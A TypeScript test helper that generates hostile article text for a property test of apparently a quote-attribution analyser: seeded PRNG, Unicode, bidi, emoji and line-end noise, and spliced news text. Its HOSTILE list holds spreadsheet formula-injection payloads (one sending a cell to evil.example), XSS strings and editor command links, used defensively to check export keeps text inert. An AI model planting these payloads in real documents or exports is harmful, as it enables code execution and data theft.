// Generators of hostile article text for the property test (property.test.ts): a seeded PRNG and
// mixed generators (random Unicode with astral characters, emoji, right-to-left text and bidi
// controls, every kind of line end, NUL and control characters, byte order marks, quotation marks
// of every style, long tokens, runs of punctuation, HTML and Markdown, and news text from the seed
// article cut up and spliced with all of these). Everything is a pure function of the PRNG, so a
// case number and a seed give back the same input.

/** mulberry32: a small, fast, seeded PRNG with a 32-bit state. */
export class Rng {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  /** A float in [0, 1). */
  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  /** An integer in [lo, hi]. */
  int(lo: number, hi: number): number {
    return lo + Math.floor(this.next() * (hi - lo + 1));
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)]!;
  }

  /** A length skewed towards short: most inputs are small, a few are long. */
  length(max: number): number {
    const r = this.next();
    return Math.floor(max * r * r * r);
  }
}

/** The PRNG of case `index` under `seed`: any one case can be rerun alone. */
export function caseRng(seed: number, index: number): Rng {
  let h = (seed ^ Math.imul(index + 1, 0x9e3779b1)) >>> 0;
  h = Math.imul(h ^ (h >>> 16), 0x85ebca6b) >>> 0;
  h = Math.imul(h ^ (h >>> 13), 0xc2b2ae35) >>> 0;
  return new Rng((h ^ (h >>> 16)) >>> 0);
}

// ───────────── pieces ─────────────

export const QUOTE_MARKS = ['"', '“', '”', '„', '«', '»', '‹', '›', "'", '‘', '’', "''", '‚', '「', '」', '＂'];
export const LINE_ENDS = ['\n', '\r\n', '\r', '\n\n', '\r\n\r\n', '\r\r', '\u2028', '\u2029', '\u0085', '\f', '\v', '\n\r'];
const SPACES = [' ', ' ', ' ', '  ', '\t', '\u00a0', '\u200b', '\u2009', '\u3000', '\ufeff'];
const CONTROLS = ['\u0000', '\u0001', '\u0007', '\u0008', '\u001b', '\u001f', '\u007f', '\u0080', '\u009f', '\ufffd', '\ufffe', '\uffff'];
const BIDI = ['\u200e', '\u200f', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u061c'];
const EMOJI = [
  '😀', '👍🏽', '👩🏿‍🚀', '👨‍👩‍👧‍👦', '🏳️‍🌈', '🇺🇦', '🇹🇷', '1️⃣', '❤️', '🧑🏻‍⚖️', '🙋‍♀️', '🤦🏼‍♂️', '🫶', '👁‍🗨', '⚠️', '©️',
];
const ASTRAL = ['𝐀', '𝒜', '𝔘', '𝕏', '𠀀', '𠜎', '𐍈', '𓀀', '🜁', '𝟘', '𞤀', '𖼀'];
const ARABIC = ['قال', 'الوزير', 'إن', 'تركيا', 'روسيا', 'السلام', 'في', 'المنطقة', '«سوف نعمل»', 'وأضاف', '٢٠٢٠'];
const HEBREW = ['אמר', 'השר', 'כי', 'ישראל', 'שלום', 'בירושלים', '״אנחנו כאן״', 'הוסיף', 'ד״ר'];
const WORDS = [
  'the', 'minister', 'said', 'told', 'reporters', 'on', 'Tuesday', 'that', 'according', 'to', 'he', 'she', 'they',
  'officials', 'a', 'source', 'added', 'President', 'Smith', 'Ankara', 'Moscow', 'Reuters', 'AP', 'By', 'Photo:',
  'U.S.', 'Dr.', 'Mr.', 'St.', 'said:', 'says', 'stressed', 'warned', 'who', 'asked', 'not', 'be', 'named', 'Sen.',
  'O’Brien', "Ankara's", "don't", 'students’', '—', '–', '-', '(', ')', ',', '.', ':', ';', '?', '!', '…',
];
const NAMES = ['Jane Roe', 'Mevlut Cavusoglu', 'Sergei Lavrov', 'Ada Klein', 'Tom Reyes', 'Borrell', 'Anne-Marie O’Neil', 'J.R.R. Tolkien', 'Xi Jinping'];
const CUES = ['said', 'says', 'told reporters', 'added', 'according to', 'stressed', 'warned', 'noted', 'said:', 'wrote', 'insisted'];
const PUNCT = '.,;:!?…-–—()[]{}/\\*_~`#|<>@=+&%$^"\'“”«»';
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?q="&A1,"click")',
  '=cmd|\' /C calc\'!A0',
  '+1+2',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '[x](command:workbench.action.terminal.new)',
  '[click](https://evil.example)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<!-- comment -->',
  '&lt;b&gt; &amp; &#x3C;',
  '![img](http://x/y.png)',
  '**bold** _em_ `code` ~~strike~~',
  '# Heading',
  '> quoted',
  '- item',
  '1. item',
  '| a | b |\n|---|---|',
  '```js\nalert(1)\n```',
  'https://example.com/a_b*c',
  'www.example.com',
  'mailto:x@example.com',
  'command:workbench.action.openSettings',
  '$x^2$',
  '\\[escaped\\]',
  'T1\tSource 0 5\tfake',
  '<https://autolink.example>',
];

// ───────────── the seed article, in pieces ─────────────

export interface Corpus {
  /** The seed article's paragraphs. */
  paragraphs: string[];
  /** Its sentences (split at ". " roughly): smaller fragments for splicing. */
  sentences: string[];
}

export function corpusOf(seedText: string): Corpus {
  const paragraphs = seedText.split(/\r?\n/).map((l) => l.trim()).filter((l) => l.length > 0);
  const sentences = paragraphs.flatMap((p) => p.split(/(?<=[.!?”"])\s+/)).filter((s) => s.length > 0);
  return { paragraphs, sentences };
}

// ───────────── generators ─────────────

export type Generator = (rng: Rng, corpus: Corpus) => string;

function codePoint(rng: Rng): string {
  const r = rng.next();
  if (r < 0.35) return String.fromCharCode(rng.int(0x20, 0x7e));
  if (r < 0.45) return String.fromCharCode(rng.int(0xa0, 0x24f));
  if (r < 0.52) return String.fromCharCode(rng.int(0x0590, 0x06ff)); // Hebrew, Arabic
  if (r < 0.58) return String.fromCharCode(rng.int(0x2000, 0x206f)); // general punctuation, bidi, LS/PS
  if (r < 0.63) return String.fromCharCode(rng.int(0x4e00, 0x9fff));
  if (r < 0.70) return String.fromCodePoint(rng.int(0x10000, 0x10ffff)); // any astral code point
  if (r < 0.77) return String.fromCodePoint(rng.int(0x1f300, 0x1faff)); // emoji blocks
  if (r < 0.82) return rng.pick(CONTROLS);
  if (r < 0.86) return rng.pick(SPACES);
  if (r < 0.90) return rng.pick(LINE_ENDS);
  if (r < 0.95) return rng.pick(QUOTE_MARKS);
  if (r < 0.97) return String.fromCharCode(rng.int(0xfe00, 0xfe0f)); // variation selectors
  if (r < 0.985) return String.fromCharCode(rng.int(0x0300, 0x036f)); // combining marks
  // A lone surrogate: strings from an editor buffer can hold one.
  return String.fromCharCode(rng.int(0xd800, 0xdfff));
}

const unicodeSoup: Generator = (rng) => {
  const n = rng.length(2000);
  let s = '';
  while (s.length < n) s += codePoint(rng);
  return s;
};

function word(rng: Rng): string {
  return rng.pick(WORDS);
}

function sentence(rng: Rng, extra: () => string, words = rng.int(3, 25)): string {
  const out: string[] = [];
  for (let i = 0; i < words; i++) out.push(rng.chance(0.2) ? extra() : word(rng));
  return out.join(rng.chance(0.9) ? ' ' : rng.pick(SPACES));
}

function paragraphsOf(rng: Rng, make: () => string, max = 5): string {
  const n = rng.int(1, max);
  const out: string[] = [];
  for (let i = 0; i < n; i++) out.push(make());
  let s = '';
  out.forEach((p, i) => (s += (i ? rng.pick(LINE_ENDS) : '') + p));
  return s;
}

const emojiText: Generator = (rng) =>
  paragraphsOf(rng, () => {
    const q = rng.pick(QUOTE_MARKS);
    const body = sentence(rng, () => rng.pick(rng.chance(0.7) ? EMOJI : ASTRAL));
    return rng.chance(0.5) ? `${q}${body}${rng.pick(QUOTE_MARKS)} ${rng.pick(NAMES)} ${rng.pick(EMOJI)} ${rng.pick(CUES)}.` : body;
  });

const rtlText: Generator = (rng) =>
  paragraphsOf(rng, () => {
    const parts: string[] = [];
    const n = rng.int(2, 20);
    for (let i = 0; i < n; i++) {
      const r = rng.next();
      parts.push(r < 0.35 ? rng.pick(ARABIC) : r < 0.6 ? rng.pick(HEBREW) : r < 0.75 ? rng.pick(BIDI) : r < 0.85 ? rng.pick(QUOTE_MARKS) : word(rng));
    }
    const s = parts.join(rng.chance(0.8) ? ' ' : '');
    return rng.chance(0.4) ? `${rng.pick(NAMES)} said: “${s}”` : s;
  });

const lineEnds: Generator = (rng) => {
  const n = rng.int(1, 12);
  let s = rng.chance(0.2) ? '\ufeff' : '';
  for (let i = 0; i < n; i++) {
    s += rng.chance(0.5) ? sentence(rng, () => rng.pick(CONTROLS)) : `"${sentence(rng, () => rng.pick(QUOTE_MARKS))}," ${rng.pick(NAMES)} said.`;
    s += rng.pick(LINE_ENDS);
    if (rng.chance(0.1)) s += '\ufeff';
    if (rng.chance(0.1)) s += '\u0000';
  }
  return s;
};

const quoteSoup: Generator = (rng) =>
  paragraphsOf(
    rng,
    () => {
      const parts: string[] = [];
      const n = rng.int(1, 40);
      for (let i = 0; i < n; i++) {
        const r = rng.next();
        if (r < 0.3) parts.push(rng.pick(QUOTE_MARKS));
        else if (r < 0.4) parts.push(rng.pick(QUOTE_MARKS) + word(rng) + rng.pick(QUOTE_MARKS));
        else if (r < 0.45) parts.push(`“${word(rng)} ‘${word(rng)} "${word(rng)}" ${word(rng)}’ ${word(rng)}”`);
        else if (r < 0.5) parts.push(`${rng.pick(NAMES)} ${rng.pick(CUES)}`);
        else parts.push(word(rng));
      }
      return parts.join(rng.chance(0.7) ? ' ' : '');
    },
    6,
  );

const longTokens: Generator = (rng) => {
  const n = rng.int(200, 10000);
  const alphabet = rng.pick(['abcdefghij', 'ABC', 'x', '0123456789', '-_', '.', 'a.', '😀', '𝐀b', 'ab"', 'א', 'ـ', '\u0301a', "a'", '/\\']);
  let tok = '';
  while (tok.length < n) tok += alphabet;
  const before = rng.chance(0.5) ? `${rng.pick(NAMES)} said ` : '';
  const after = rng.chance(0.5) ? `, ${rng.pick(NAMES)} said.` : '';
  return before + (rng.chance(0.5) ? '"' : '') + tok + after;
};

const punctuationRuns: Generator = (rng) =>
  paragraphsOf(rng, () => {
    let s = '';
    const n = rng.int(1, 15);
    for (let i = 0; i < n; i++) {
      const run = rng.int(1, rng.chance(0.05) ? 1000 : 30);
      const ch = rng.chance(0.5) ? rng.pick([...PUNCT]) : '';
      for (let k = 0; k < run; k++) s += ch || PUNCT[rng.int(0, PUNCT.length - 1)];
      s += rng.chance(0.5) ? ' ' + word(rng) + ' ' : '';
    }
    return s;
  });

const htmlMarkdown: Generator = (rng) =>
  paragraphsOf(rng, () => {
    const r = rng.next();
    const h = rng.pick(HOSTILE);
    if (r < 0.25) return `${h} ${rng.pick(CUES)} that ${sentence(rng, () => rng.pick(HOSTILE))}.`;
    if (r < 0.5) return `“${h} ${sentence(rng, () => rng.pick(HOSTILE))},” ${rng.pick(NAMES)} said.`;
    if (r < 0.65) return `${rng.pick(NAMES)} ${h} said: "${h}"`;
    if (r < 0.75) return `By ${h}`;
    if (r < 0.85) return `Photo: ${h}`;
    return sentence(rng, () => rng.pick(HOSTILE));
  });

/** A piece from one of the other generators, small enough to splice into news text. */
function fragment(rng: Rng, corpus: Corpus): string {
  const r = rng.next();
  if (r < 0.15) return rng.pick(HOSTILE);
  if (r < 0.3) return rng.pick(EMOJI) + rng.pick(ASTRAL);
  if (r < 0.4) return rng.pick(BIDI) + rng.pick(ARABIC) + rng.pick(BIDI);
  if (r < 0.55) return rng.pick(QUOTE_MARKS);
  if (r < 0.65) return rng.pick(LINE_ENDS);
  if (r < 0.72) return rng.pick(CONTROLS);
  if (r < 0.8) return rng.pick(corpus.sentences);
  if (r < 0.88) return `${rng.pick(NAMES)} ${rng.pick(CUES)}`;
  let s = '';
  const n = rng.int(1, 12);
  while (s.length < n) s += codePoint(rng);
  return s;
}

/** The seed article (or a stretch of it), cut, spliced with hostile fragments, duplicated and shuffled. */
const newsMutation: Generator = (rng, corpus) => {
  const { paragraphs } = corpus;
  const from = rng.int(0, paragraphs.length - 1);
  const count = rng.int(1, Math.min(5, paragraphs.length - from));
  let paras = paragraphs.slice(from, from + count);
  if (rng.chance(0.2)) paras = paras.map((p) => (rng.chance(0.3) ? rng.pick(paragraphs) : p));
  let s = paras.join(rng.chance(0.7) ? '\n\n' : rng.pick(LINE_ENDS));
  const edits = rng.int(1, 15);
  for (let e = 0; e < edits; e++) {
    const at = rng.int(0, s.length);
    const r = rng.next();
    if (r < 0.55) s = s.slice(0, at) + fragment(rng, corpus) + s.slice(at);
    else if (r < 0.75) s = s.slice(0, at) + s.slice(Math.min(s.length, at + rng.int(1, 40)));
    else if (r < 0.85) {
      // Replace every quotation mark of one kind by another.
      const a = rng.pick(['"', '“', '”', "'", '’']);
      s = s.split(a).join(rng.pick(QUOTE_MARKS));
    } else if (r < 0.92) {
      const len = rng.int(1, 200);
      s = s.slice(0, at) + s.slice(at, at + len) + s.slice(at);
    } else {
      s = rng.chance(0.5) ? s.toUpperCase() : s.replace(/\n/g, rng.pick(LINE_ENDS));
    }
  }
  return s;
};

/** Well-formed attributions whose names, cues and quotes are hostile: the text an export must keep inert. */
const hostileAttributions: Generator = (rng) =>
  paragraphsOf(rng, () => {
    const who = rng.chance(0.5) ? `${rng.pick(['Minister', 'Dr.', 'President'])} ${rng.pick(HOSTILE)} ${rng.pick(['Smith', 'Roe', 'Klein'])}` : rng.pick(NAMES);
    const said = rng.pick(HOSTILE).replace(/\n/g, ' ');
    const templates = [
      `"${said}," ${who} said.`,
      `${who} said: “${said}”`,
      `${who} said that ${said} would happen.`,
      `According to ${who}, ${said}.`,
      `“${said},” said ${who}, “and ${rng.pick(HOSTILE)}.”`,
      `${rng.pick(HOSTILE)} — ${who}`,
      `${who.toUpperCase()}: ${said}`,
    ];
    return rng.pick(templates);
  });

export const GENERATORS: ReadonlyArray<readonly [string, Generator]> = [
  ['unicode soup', unicodeSoup],
  ['emoji', emojiText],
  ['right-to-left', rtlText],
  ['line ends and controls', lineEnds],
  ['quotation marks', quoteSoup],
  ['long tokens', longTokens],
  ['punctuation runs', punctuationRuns],
  ['HTML and Markdown', htmlMarkdown],
  ['news mutation', newsMutation],
  ['hostile attributions', hostileAttributions],
];

/** Weights: news-like text most, since it reaches the deepest parts of the analysis. */
const WEIGHTS = [10, 8, 8, 8, 12, 3, 6, 10, 25, 10];

export function generate(rng: Rng, corpus: Corpus): { name: string; text: string } {
  const total = WEIGHTS.reduce((a, b) => a + b, 0);
  let r = rng.next() * total;
  let k = 0;
  while (r >= WEIGHTS[k]!) r -= WEIGHTS[k++]!;
  const [name, gen] = GENERATORS[k]!;
  let text = gen(rng, corpus);
  // Now and then two generators spliced, or a byte order mark in front.
  if (rng.chance(0.1)) {
    const [, other] = rng.pick(GENERATORS);
    const at = rng.int(0, text.length);
    text = text.slice(0, at) + other(rng, corpus) + text.slice(at);
  }
  if (rng.chance(0.03)) text = '\ufeff' + text;
  return { name, text };
}

/**
 * One paragraph of about `size` UTF-16 code units with no line break at all: the seed article's
 * sentences and hostile fragments, every line end and paragraph separator replaced by a space.
 */
export function hugeParagraph(size: number, corpus: Corpus, seed: number): string {
  const rng = new Rng(seed);
  const parts: string[] = [];
  let n = 0;
  while (n < size) {
    const r = rng.next();
    const piece = r < 0.8 ? rng.pick(corpus.sentences) : r < 0.9 ? fragment(rng, corpus) : rng.pick(HOSTILE);
    parts.push(piece);
    n += piece.length + 1;
  }
  let s = parts.join(' ').replace(/[\r\n\u0085\u2028\u2029\v\f]/g, ' ');
  s = s.slice(0, size);
  // Never end on half a surrogate pair.
  const last = s.charCodeAt(s.length - 1);
  if (last >= 0xd800 && last <= 0xdbff) s = s.slice(0, -1);
  return s;
}
